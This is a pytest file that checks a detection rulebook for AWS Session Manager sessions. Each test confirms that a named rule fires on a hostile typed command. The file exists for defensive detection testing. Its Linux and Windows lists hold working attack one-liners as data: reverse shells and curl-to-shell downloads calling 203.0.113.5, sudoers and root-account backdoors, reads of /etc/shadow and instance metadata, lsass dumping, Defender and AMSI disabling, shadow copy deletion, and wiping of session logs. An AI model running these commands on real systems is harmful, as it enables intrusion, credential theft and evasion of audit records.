"""What Session Manager's threat catalogue asks of typed commands, each by the rule that is meant to speak."""

from __future__ import annotations

import pytest

from bot.core.rules import Rulebook

LINUX = [
    ("C1 reverse shell", "bash -i >& /dev/tcp/203.0.113.5/443 0>&1", "reverse_shell_dev_tcp"),
    ("C1 download and run", "curl -fsSL https://203.0.113.5/x | sh", "download_into_shell"),
    ("C1 base64", "echo aWQgLXVuCg== | base64 -d | sh", "decoded_into_shell"),
    ("C1 openssl", "openssl s_client -quiet -connect 203.0.113.5:443 < /tmp/s | /bin/sh > /tmp/s", "reverse_shell_pipe"),
    ("C1 nc", "nc 203.0.113.5 443 -e /bin/sh", "reverse_shell_netcat"),
    ("C1 socat", "socat tcp:203.0.113.5:443 exec:sh", "reverse_shell_netcat"),
    ("C1 GTFOBins", "sudo vim -c ':!/bin/sh'", "shell_escape_as_root"),
    ("C1 uid 0", "useradd -o -u 0 x", "root_account_created"),
    ("C1 sudoers", "echo 'x ALL=(ALL) NOPASSWD:ALL' >> /etc/sudoers", "sudoers_no_password"),
    ("C1 authorized_keys", "cat k.pub >> ~/.ssh/authorized_keys", "ssh_key_planted"),
    ("C1 setuid", "chmod u+s /tmp/x", "setuid_bit_set"),
    ("C1 kernel module", "insmod x.ko", "kernel_module_loaded"),
    ("C1 firewall off", "iptables -F", "firewall_opened"),
    ("C1 audit off", "auditctl -e 0", "audit_switched_off"),
    ("C1 container to host", "docker run -v /:/mnt --rm -it alpine chroot /mnt sh", "container_to_host"),
    ("C2 shadow", "cat /etc/shadow", "secret_file_read"),
    ("C2 metadata", "curl http://169.254.169.254/latest/meta-data/iam/security-credentials/", "instance_metadata"),
    ("C2 cron", "echo '* * * * * root /x' > /etc/cron.d/x", "cron_written"),
    ("C2 systemd", "tee /etc/systemd/system/x.service < u", "service_file_written"),
    ("C2 history -c", "history -c", "history_cleared"),
    ("C2 HISTFILE", "unset HISTFILE", "history_cleared"),
    ("C4 agent", "sudo amazon-ssm-agent -register -code c -id i -region eu-west-1", "ssm_agent_registered"),
    ("L6 ipcTempFile", "rm /var/lib/amazon/ssm/i-0/session/orchestration/s/Standard_Stream/ipcTempFile.log", "session_log_tampered"),
    ("L6 chattr", "chattr -a /var/lib/amazon/ssm/i-0/session/orchestration/s/Standard_Stream/ipcTempFile.log", "session_log_tampered"),
    ("L6 agent", "systemctl stop amazon-ssm-agent", "guard_stopped"),
]
WINDOWS = [
    ("C2 SAM", "reg save HKLM\\SAM s.hiv", "win_hive_copied"),
    ("C2 lsass", "procdump -ma lsass.exe l.dmp", "win_lsass_dumped"),
    ("C2 metadata", "irm http://169.254.169.254/latest/meta-data/iam/security-credentials/", "win_instance_metadata"),
    ("C2 Run keys", "reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v u /d C:\\u.exe", "win_autostart_key"),
    ("C2 Clear-History", "Clear-History", "win_history_of_session_cleared"),
    ("C3 New-LocalUser", "New-LocalUser x -NoPassword", "win_account_created"),
    ("C3 Set-LocalUser", "Set-LocalUser -Name x -Password $p", "win_account_changed"),
    ("C3 firewall", "New-NetFirewallRule -DisplayName x -Direction Inbound -Action Allow", "win_firewall_rule_added"),
    ("C3 remoting", "Enable-PSRemoting -Force", "win_remoting_enabled"),
    (
        "C3 RDP",
        "Set-ItemProperty 'HKLM:\\System\\CurrentControlSet\\Control\\Terminal Server' fDenyTSConnections 0",
        "win_rdp_opened",
    ),
    ("C3 Defender", "Set-MpPreference -DisableRealtimeMonitoring $true", "win_defender_weakened"),
    ("C3 encoded", "powershell -enc dwBoAG8AYQBtAGkA", "win_encoded_command"),
    ("C3 LOLBin", "certutil -urlcache -f http://203.0.113.5/x x", "win_download_tool"),
    ("C3 service", "sc.exe create x binPath= C:\\Users\\Public\\x.exe", "win_service_made"),
    ("C3 task", "schtasks /create /tn x /tr C:\\x.exe /sc daily", "win_task_made"),
    ("C3 WMI", "Set-WmiInstance -Namespace root\\subscription -Class __EventFilter -Arguments @{Name='x'}", "win_wmi_persistence"),
    ("C3 AMSI", "[Ref].Assembly.GetType('System.Management.Automation.AmsiUtils')", "win_amsi_bypassed"),
    ("C3 shadow copies", "vssadmin delete shadows /all /quiet", "win_recovery_destroyed"),
    ("C4 agent", "& 'C:\\Program Files\\Amazon\\SSM\\amazon-ssm-agent.exe' -register -code c -id i", "win_ssm_registered"),
    ("L6 agent", "Stop-Service AmazonSSMAgent", "win_session_record_wiped"),
    ("L6 transcript", "Stop-Transcript", "win_history_cleared"),
]


@pytest.mark.parametrize(("text", "rule"), [pytest.param(text, rule, id=item) for item, text, rule in LINUX])
def test_linux(book: Rulebook, text: str, rule: str) -> None:
    """The rule that the catalogue needs fires on Linux."""
    assert rule in [found.rule for found in book.judge(text, "linux")]


@pytest.mark.parametrize(("text", "rule"), [pytest.param(text, rule, id=item) for item, text, rule in WINDOWS])
def test_windows(book: Rulebook, text: str, rule: str) -> None:
    """The rule that the catalogue needs fires on Windows."""
    assert rule in [found.rule for found in book.judge(text, "windows")]
